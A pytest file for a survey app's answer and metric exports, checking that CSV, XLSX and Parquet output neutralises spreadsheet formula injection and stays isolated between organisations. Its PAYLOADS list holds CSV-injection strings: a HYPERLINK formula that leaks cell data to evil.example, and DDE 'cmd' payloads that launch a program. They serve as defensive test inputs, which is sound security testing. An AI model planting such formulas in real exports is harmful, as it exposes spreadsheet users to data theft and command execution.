"""Exports of answers and metrics: three formats, and no formula ever runs in a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook

from avis.analytics.exports import ANSWER_COLUMNS, neutralise
from tests.analytics.answering import survey_and_answer
from tests.helpers import open_all_day

pytestmark = pytest.mark.django_db(transaction=True)
PARIS = ZoneInfo("Europe/Paris")
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1, "click")',
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_neutralise_prefixes_formula_starts_and_leaves_the_rest() -> None:
    assert [neutralise(p)[0] for p in PAYLOADS] == ["'"] * len(PAYLOADS)
    assert neutralise("très bien") == "très bien" and neutralise(-3) == -3 and neutralise(None) is None


@pytest.fixture
def injected(org):  # noqa: ANN001, ANN201
    open_all_day(org.organisation)
    survey_and_answer(
        org, datetime(2026, 3, 10, 11, tzinfo=PARIS), [10] * len(PAYLOADS), agent="=cmd", comments=PAYLOADS
    )
    return org


def _texts(rows: list[list[object]]) -> list[str]:
    return [str(cell) for row in rows for cell in row if isinstance(cell, str) and cell]


def test_answer_exports_never_start_a_cell_with_a_formula(injected, api) -> None:  # noqa: ANN001
    for fmt in ("csv", "xlsx", "parquet"):
        response = api.get("/api/v1/exports/answers", {"format": fmt})
        assert response.status_code == 200, response.content
        body = response.content
        if fmt == "csv":
            rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
        elif fmt == "xlsx":
            rows = [list(r) for r in load_workbook(io.BytesIO(body)).active.iter_rows(values_only=True)]
        else:
            table = pq.read_table(io.BytesIO(body)).to_pylist()
            rows = [list(table[0].keys())] + [list(r.values()) for r in table]
        header, data = rows[0], rows[1:]
        assert header[:3] == ["answer_id", "response_id", "answered_at"]
        texts = _texts(data)
        assert not [t for t in texts if t[0] in "=+-@\t\r"], fmt
        comments = {r[header.index("text")] for r in data if r[header.index("question")] == "comment"}
        assert comments == {"'" + p.strip() for p in PAYLOADS}, fmt  # the survey page trims answers
        assert {r[header.index("agent")] for r in data} == {"'=cmd"}
        if fmt != "csv":  # numbers stay numbers
            assert {r[header.index("number")] for r in data if r[header.index("question")] == "nps"} == {10}


def test_metric_export_carries_n_interval_and_method(injected, api) -> None:  # noqa: ANN001
    response = api.get("/api/v1/exports/metrics", {"format": "csv", "metric": "nps", "period": "month"})
    (row,) = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert row["n"] == "6" and row["method"] == "adjusted-wald" and row["reliable"] == "False"
    assert float(row["ci_low"]) < float(row["value"]) == 100.0 <= float(row["ci_high"]) + 1e-9


def test_the_figures_page_links_to_the_same_exports(injected) -> None:  # noqa: ANN001
    from tests.analytics.test_pages import signed_in

    client = signed_in(injected)
    response = client.get("/analytics/export/answers.xlsx")
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="avis-answers.xlsx"'
    assert client.get("/analytics/export/answers.exe").status_code == 404


def test_another_organisation_exports_none_of_these_answers(injected, other_org) -> None:  # noqa: ANN001
    from django.test import Client

    client = Client(headers={"Authorization": f"Bearer {other_org.api_key}"})
    body = client.get("/api/v1/exports/answers", {"format": "csv"}).content.decode("utf-8-sig")
    assert body.strip().splitlines() == [",".join(ANSWER_COLUMNS)]
